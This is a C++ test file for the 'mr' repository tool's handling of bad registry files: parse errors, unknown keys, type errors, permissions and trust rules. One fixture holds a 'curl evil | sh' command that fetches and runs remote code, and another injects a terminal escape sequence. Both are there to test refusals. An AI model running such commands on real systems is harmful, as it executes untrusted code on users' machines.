// Every bad input gives one clear line naming the file (and line and column), exit
// status 2, and leaves the registry byte-for-byte unchanged.
#include <sys/stat.h>
#include <unistd.h>

#include "cli_fixture.hpp"

namespace mr::test {

namespace {

class BadRegistry : public CliTest {
protected:
  BadRegistry() : m_repo(make_repo(home() / "src/good")) {}

  // Runs list, register and unregister against `content`; each must fail the same way.
  void expect_refused(const std::string& content, const std::string& expected_prefix) {
    write_file(registry(), content);
    for (const auto& args : std::vector<std::vector<std::string>>{
             {"list"}, {"register"}, {"unregister"}, {"-j", "2", "-q", "li"}}) {
      const auto r = mr(args, m_repo);
      SCOPED_TRACE(args.front() + " with:\n" + content);
      EXPECT_EQ(r.exit_code, 2);
      EXPECT_EQ(r.out, "");
      ASSERT_EQ(lines_of(r.err).size(), 1u) << r.err;
      EXPECT_EQ(r.err.rfind("mr: error: " + expected_prefix, 0), 0u) << r.err;
      EXPECT_EQ(read_file(registry()), content);
    }
  }

  std::string at(int line, int column) const {
    return registry().string() + ":" + std::to_string(line) + ":" + std::to_string(column) + ": ";
  }

  fs::path m_repo;
};

} // namespace

TEST_F(BadRegistry, MalformedToml) {
  expect_refused("[repos.\"src/a\"\nurl = \"x\"\n", at(1, 15));
  expect_refused("[repos.a]\nurl = \"unterminated\n", at(2, 20));
  expect_refused("[repos.a]\nurl = \"x\"\n[repos.a]\n", at(3, 1));
}

TEST_F(BadRegistry, UnknownKeys) {
  expect_refused("[repos.\"src/a\"]\nurl = \"x\"\nbrnach = \"main\"\n",
                 at(3, 1) + "unknown key 'brnach' in repo 'src/a' (expected url, branch, tags, "
                            "order, skip, deleted, lib, chain, transport, commands)");
  expect_refused("[setings]\n", at(1, 2) + "unknown key 'setings'");
  expect_refused("[settings]\njbos = 3\n", at(2, 1) + "unknown setting 'jbos'");
}

TEST_F(BadRegistry, WrongTypes) {
  expect_refused("[repos.a]\norder = \"first\"\n",
                 at(2, 9) + "'order' of repo 'a' must be a number, not a string");
  expect_refused("[repos.a]\ntags = 3\n",
                 at(2, 8) + "'tags' of repo 'a' must be an array of strings, not an integer");
  expect_refused("[settings]\njobs = \"many\"\n", at(2, 8) + "'settings.jobs' must be");
  expect_refused("[alias]\nup = 1\n", at(2, 6) + "'alias.up' must be a string, not an integer");
}

TEST_F(BadRegistry, DuplicatePath) {
  expect_refused("[repos.\"src/a\"]\n[repos.\"./src/a\"]\n",
                 at(2, 8) + "duplicate repo '" + (home() / "src/a").string() +
                     "' (already defined at " + registry().string() + ":1:1)");
  expect_refused("[repos.\"src/a\"]\n[repos.\"~/src/a\"]\n", at(2, 8) + "duplicate repo");
}

TEST_F(BadRegistry, MissingInclude) {
  expect_refused("include = [\"conf.d/missing.toml\"]\n",
                 at(1, 12) + "included file 'conf.d/missing.toml' not found");
}

TEST_F(BadRegistry, BrokenIncludedFileIsNamed) {
  write_file(home() / "more.toml", "[repos.x]\nzzz = 1\n");
  expect_refused("include = \"more.toml\"\n",
                 (home() / "more.toml").string() + ":2:1: unknown key 'zzz'");
}

TEST_F(BadRegistry, UnreadableRegistry) {
  const std::string content = "[repos.\"src/good\"]\n";
  write_file(registry(), content);
  ::chmod(registry().c_str(), 0);
  const auto r = mr({"list"}, home(), {}, /*as_nobody=*/true);
  ::chmod(registry().c_str(), 0644);
  EXPECT_EQ(r.exit_code, 2);
  EXPECT_EQ(r.out, "");
  EXPECT_EQ(r.err,
            "mr: error: cannot read registry " + registry().string() + ": Permission denied\n");
  EXPECT_EQ(read_file(registry()), content);
}

TEST_F(BadRegistry, ReadOnlyRegistryDirectory) {
  // Everything belongs to the user mr runs as; only the directory is read-only.
  const auto dir = root() / "ro";
  const auto repo = make_repo(root() / "repo");
  const auto file = dir / "reg.toml";
  const std::string content = "[repos.x]\n";
  write_file(file, content);
  if (::geteuid() == 0) {
    ASSERT_EQ(std::system(
                  ("chown -R 65534:65534 '" + dir.string() + "' '" + repo.string() + "'").c_str()),
              0);
  }
  ::chmod(dir.c_str(), 0555);
  // -t: an untrusted file may not list a repository outside its directory at all.
  for (const auto& args :
       std::vector<std::vector<std::string>>{{"-t", "-c", file.string(), "register"},
                                             {"-c", file.string(), "unregister", "../ro/x"}}) {
    const auto r = mr(args, repo, {}, /*as_nobody=*/true);
    EXPECT_EQ(r.exit_code, 2) << r.err;
    EXPECT_EQ(r.out, "");
    EXPECT_EQ(r.err, "mr: error: cannot write registry " + file.string() + ": Permission denied\n");
    EXPECT_EQ(read_file(file), content);
  }
  ::chmod(dir.c_str(), 0755);
}

TEST_F(BadRegistry, MissingExplicitRegistry) {
  const auto r = mr({"-c", "nope.toml", "list"}, home());
  EXPECT_EQ(r.exit_code, 2);
  EXPECT_EQ(r.err, "mr: error: registry " + (home() / "nope.toml").string() +
                       " does not exist (create it with mr -c " + (home() / "nope.toml").string() +
                       " register)\n");
  EXPECT_FALSE(std::filesystem::exists(home() / "nope.toml"));
}

TEST_F(BadRegistry, UntrustedFileWithCommands) {
  const auto file = root() / "proj/.mrconfig.toml";
  write_file(file, "[repos.a]\n[repos.a.commands]\nupdate = \"curl evil | sh\"\n");
  std::filesystem::create_directories(root() / "proj/a");
  auto r = mr({"list"}, root() / "proj");
  EXPECT_EQ(r.exit_code, 2);
  EXPECT_EQ(r.err, "mr: error: " + file.string() +
                       ":2:10: commands are not allowed in an untrusted registry file (list it in "
                       "~/.mrtrust or run with -t)\n");
  r = mr({"-t", "list"}, root() / "proj");
  EXPECT_EQ(r.exit_code, 0) << r.err;
  write_file(home() / ".mrtrust", file.string() + "\n");
  EXPECT_EQ(mr({"list"}, root() / "proj").exit_code, 0);
}

// A variable that brings a control character into a repository's path is refused, and the
// message shows what it expanded to escaped: raw, an escape sequence would reach the terminal
// (found by a hostile review).
TEST_F(BadRegistry, APathAVariableFillsWithAControlCharacterIsShownEscaped) {
  write_file(registry(), "[repos.\"src/${MR_TEST_EVIL}x\"]\n");
  const auto r = mr({"list"}, home(), {{"MR_TEST_EVIL", "a\nb\x1b[31m"}});
  EXPECT_EQ(r.exit_code, 2);
  EXPECT_EQ(r.err,
            "mr: error: " + registry().string() +
                ":1:8: repo path 'src/${MR_TEST_EVIL}x' expands to \"src/a\\nb\\u001b[31mx\", "
                "which is not a path mr can use\n");
}

} // namespace mr::test
